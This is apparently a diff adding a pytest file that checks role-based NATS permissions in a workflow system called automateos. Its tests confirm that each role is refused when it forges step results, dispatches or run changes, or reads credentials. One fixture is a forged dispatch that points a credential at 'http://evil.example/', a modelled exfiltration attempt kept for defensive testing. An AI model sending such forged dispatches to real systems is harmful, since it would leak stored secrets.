@@ -1,0 +1,212 @@
+"""Least privilege on the bus: the broker as `automateos up` starts it (nats.conf with the generated users), each
+actor as its own role, and each forgery the security probe found tried with each role's credentials."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import subprocess
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+
+import nats
+import nats.errors
+import pytest
+from nats.aio.client import Client as NATS
+
+from automateos.settings import REPO_ROOT
+from bus import EmbeddedNats, NatsLogin, free_port, nats_server_binary, set_up_bus, subjects
+from bus.permissions import ROLES, auth_config, inbox_prefix, new_password, password_variable
+from tests.conftest import TEST_BUS_SETTINGS
+from tests.support.mock_http import MockHttp, Reply
+from tests.support.stack import Stack, http_graph
+
+PASSWORDS = {role: new_password() for role in ROLES}
+
+
+def test_the_committed_auth_config_is_generated_from_the_permissions() -> None:
+    assert (REPO_ROOT / "nats-auth.conf").read_text() == auth_config(), "run `make nats-auth.conf`"
+
+
+@pytest.mark.parametrize("config", ["nats.conf", "nats-cluster.conf"])
+def test_the_server_configs_are_valid(config: str) -> None:
+    env = {**{password_variable(role): password for role, password in PASSWORDS.items()}, "NATS_SERVER_NAME": "n1"}
+    checked = subprocess.run([nats_server_binary(), "-c", str(REPO_ROOT / config), "-t"], env=env,
+                             capture_output=True, text=True, timeout=30)
+    assert checked.returncode == 0 and "is valid" in checked.stderr + checked.stdout, checked.stderr
+
+
+@pytest.fixture
+def secured_nats(tmp_path: Path) -> Iterator[EmbeddedNats]:
+    env = {password_variable(role): password for role, password in PASSWORDS.items()}
+    with EmbeddedNats(tmp_path / "nats", port=free_port(), config_file=REPO_ROOT / "nats.conf", env=env) as server:
+        yield server
+
+
+@pytest.fixture
+async def secured_stack(secured_nats: EmbeddedNats) -> AsyncIterator[Stack]:
+    await set_up_bus(secured_nats.url, TEST_BUS_SETTINGS, login=NatsLogin("admin", PASSWORDS["admin"]))
+    stack = Stack(nats_url=secured_nats.url, bus_settings=TEST_BUS_SETTINGS,
+                  logins={role: NatsLogin(role, PASSWORDS[role]) for role in ("gateway", "orchestrator", "engine")})
+    await stack.start_orchestrator()
+    await stack.start_worker()
+    await stack.start_gateway()
+    yield stack
+    await stack.stop()
+
+
+async def as_role(server: EmbeddedNats, role: str, violations: list[str]) -> NATS:
+    async def on_error(error: Exception) -> None:
+        violations.append(str(error))
+
+    return await nats.connect(server.url, user=role, password=PASSWORDS[role], inbox_prefix=inbox_prefix(role),
+                              error_cb=on_error, allow_reconnect=False, connect_timeout=5)
+
+
+async def refused(nc: NATS, violations: list[str], subject: str, payload: bytes = b"{}",
+                  headers: dict[str, str] | None = None) -> bool:
+    """Whether the server refused a publish to `subject` (it says so asynchronously, as a permissions violation)."""
+    before = len(violations)
+    await nc.publish(subject, payload, headers=headers)
+    await nc.flush()
+    for _ in range(100):
+        if len(violations) > before:
+            return "permissions violation" in " ".join(violations[before:]).lower()
+        await asyncio.sleep(0.01)
+    return False
+
+
+async def connect_answer(server: EmbeddedNats, connect: dict[str, object]) -> str:
+    """What the server answers a client's CONNECT and PING, over a plain socket."""
+    reader, writer = await asyncio.open_connection(server.host, server.port)
+    try:
+        await reader.readline()  # INFO
+        writer.write(f"CONNECT {json.dumps({'verbose': False, **connect})}\r\nPING\r\n".encode())
+        await writer.drain()
+        return (await asyncio.wait_for(reader.readline(), 5)).decode()
+    finally:
+        writer.close()
+        await writer.wait_closed()
+
+
+async def test_no_anonymous_access_and_no_wrong_password(secured_nats: EmbeddedNats) -> None:
+    assert "Authorization Violation" in await connect_answer(secured_nats, {})
+    assert "Authorization Violation" in await connect_answer(secured_nats, {"user": "engine", "pass": "guess"})
+    assert await connect_answer(secured_nats, {"user": "engine", "pass": PASSWORDS["engine"]}) == "PONG\r\n"
+
+
+async def test_runs_work_with_every_actor_on_its_own_role(secured_stack: Stack, mock_http: MockHttp) -> None:
+    # A credential (engine reads ciphertext), an HTTP call and a large output (engine stores it apart).
+    assert secured_stack.http is not None
+    async with secured_stack.http.post(f"{secured_stack.base_url}/v1/credentials",
+                                       json={"name": "api", "value": "sk_live_" + "c" * 24}) as response:
+        assert response.status == 201, await response.text()
+    mock_http.reply("/big", Reply(status=200, body={"blob": "x" * 20_000}))
+    graph = http_graph(mock_http.url("/big"), headers={"Authorization": "Bearer {{ getCredential('api') }}"})
+    record = await secured_stack.finish(await secured_stack.start_run(graph))
+    assert record["status"] == "succeeded", record
+    assert mock_http.requests_to("/big")[0].headers["Authorization"].endswith("c" * 24)
+
+
+FORGED_RESULT = json.dumps({"runId": "r1", "stepId": "call", "attempt": 1, "status": "succeeded",
+                            "output": {"forged": True}}).encode()
+FORGED_DISPATCH = json.dumps({"runId": "r1", "stepId": "call", "type": "http", "attempt": 1,
+                              "config": {"url": "http://evil.example/", "auth": {"credentialName": "api"}}}).encode()
+
+
+@pytest.mark.parametrize("role", ["gateway", "orchestrator", "integrations"])
+async def test_only_an_engine_may_publish_a_result(secured_stack: Stack, secured_nats: EmbeddedNats, role: str) -> None:
+    violations: list[str] = []
+    nc = await as_role(secured_nats, role, violations)
+    try:
+        assert await refused(nc, violations, subjects.STEPS_RESULT, FORGED_RESULT)
+    finally:
+        await nc.close()
+
+
+@pytest.mark.parametrize("role", ["gateway", "engine", "integrations"])
+async def test_only_the_orchestrator_may_dispatch_a_step_or_change_a_run(
+    secured_stack: Stack, secured_nats: EmbeddedNats, role: str
+) -> None:
+    violations: list[str] = []
+    nc = await as_role(secured_nats, role, violations)
+    try:
+        # A dispatch would make a worker decrypt a credential and send it anywhere.
+        assert await refused(nc, violations, subjects.STEPS_DISPATCH, FORGED_DISPATCH)
+        assert await refused(nc, violations, subjects.run_events("r1"), b'{"runId": "r1", "events": []}')
+        assert await refused(nc, violations, subjects.timer("r1", "call"), b"{}")
+    finally:
+        await nc.close()
+
+
+@pytest.mark.parametrize("role", ["engine", "integrations"])
+async def test_engines_and_integrations_cannot_overwrite_abort_or_read_a_run(
+    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp, role: str
+) -> None:
+    mock_http.reply("/ok", Reply(status=200, body={}))
+    run_id = await secured_stack.start_run(http_graph(mock_http.url("/ok")))
+    await secured_stack.finish(run_id)
+    violations: list[str] = []
+    nc = await as_role(secured_nats, role, violations)
+    try:
+        assert await refused(nc, violations, f"$KV.{subjects.RUNS_BUCKET}.{run_id}", b"{}")
+        assert await refused(nc, violations, subjects.RUNS_CANCEL, json.dumps({"runId": run_id}).encode())
+        assert await refused(nc, violations, subjects.STEPS_ABORT, json.dumps({"runId": run_id}).encode())
+        # Reading the record: a direct get on the runs bucket.
+        assert await refused(nc, violations, f"$JS.API.DIRECT.GET.KV_{subjects.RUNS_BUCKET}.$KV.{subjects.RUNS_BUCKET}.{run_id}")
+        # Creating a consumer to read the run log or the dispatches through it.
+        assert await refused(nc, violations, f"$JS.API.CONSUMER.CREATE.{subjects.EVENTS_STREAM}", b"{}")
+        assert await refused(nc, violations, f"$JS.API.CONSUMER.CREATE.{subjects.DISPATCH_STREAM}", b"{}")
+        # Nor may it listen to another role's replies.
+        with pytest.raises(nats.errors.Error):
+            sub = await nc.subscribe(f"{inbox_prefix('gateway')}.>")
+            await nc.flush()
+            await asyncio.sleep(0.2)
+            if any("permissions violation" in v.lower() for v in violations):
+                raise nats.errors.Error("refused")
+            await sub.unsubscribe()
+    finally:
+        await nc.close()
+
+
+async def test_an_engine_cannot_read_the_run_log_and_integrations_cannot_reach_credentials(
+    secured_stack: Stack, secured_nats: EmbeddedNats
+) -> None:
+    violations: list[str] = []
+    engine = await as_role(secured_nats, "engine", violations)
+    integrations = await as_role(secured_nats, "integrations", violations)
+    try:
+        assert await refused(engine, violations, f"$JS.API.DIRECT.GET.{subjects.EVENTS_STREAM}", b'{"seq": 1}')
+        assert await refused(integrations, violations,
+                             f"$JS.API.DIRECT.GET.KV_{subjects.CREDENTIALS_BUCKET}.$KV.{subjects.CREDENTIALS_BUCKET}.cred.api")
+        assert await refused(integrations, violations, f"$KV.{subjects.WORKFLOWS_BUCKET}.x", b"{}")
+    finally:
+        await engine.close()
+        await integrations.close()
+
+
+async def test_integrations_may_request_a_run_and_follow_its_events(
+    secured_stack: Stack, secured_nats: EmbeddedNats, mock_http: MockHttp
+) -> None:
+    mock_http.reply("/from-bus", Reply(status=200, body={"ok": True}))
+    violations: list[str] = []
+    nc = await as_role(secured_nats, "integrations", violations)
+    try:
+        events: list[dict[str, object]] = []
+        done = asyncio.Event()
+
+        async def on_events(msg: nats.aio.msg.Msg) -> None:
+            batch = json.loads(msg.data)
+            events.extend(batch["events"])
+            if any(e.get("type") == "run" and e.get("status") == "succeeded" for e in batch["events"]):
+                done.set()
+
+        await nc.subscribe(subjects.run_events("billing-7"), cb=on_events)
+        request = {"runId": "billing-7", "graph": http_graph(mock_http.url("/from-bus"))}
+        ack = await nc.jetstream().publish(subjects.RUNS_REQUESTED, json.dumps(request).encode())
+        assert ack.seq > 0
+        await asyncio.wait_for(done.wait(), 30)
+        assert not violations, violations
+        assert len(mock_http.requests_to("/from-bus")) == 1
+    finally:
+        await nc.close()
